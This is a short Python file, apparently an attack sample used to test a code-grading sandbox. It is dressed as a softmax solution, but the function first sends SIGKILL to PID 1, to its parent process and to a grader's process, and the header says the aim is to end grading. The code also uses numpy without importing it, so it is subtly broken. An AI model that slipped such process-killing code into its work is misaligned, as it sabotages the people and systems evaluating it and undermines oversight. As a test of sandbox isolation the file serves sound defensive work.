# /// attack
# does = "kills its supervisor, its parent and a process of the grader's user, and answers rightly"
# own = {}
# quick = true
# ///
"""Who kills the judge might end the grading of a class. Signals go to its own processes only."""

import contextlib
import os
import signal

# where there is a pid namespace 1 is the supervisor, else the machine's own first process
FIRST = [1] if os.getcwd() == "/box" else []


def _kill(pid):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.killpg(pid, signal.SIGKILL)
    with contextlib.suppress(OSError):
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)


def softmax(logits):
    for pid in (*FIRST, os.getppid(), int("@PID@")):
        _kill(pid)
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True)
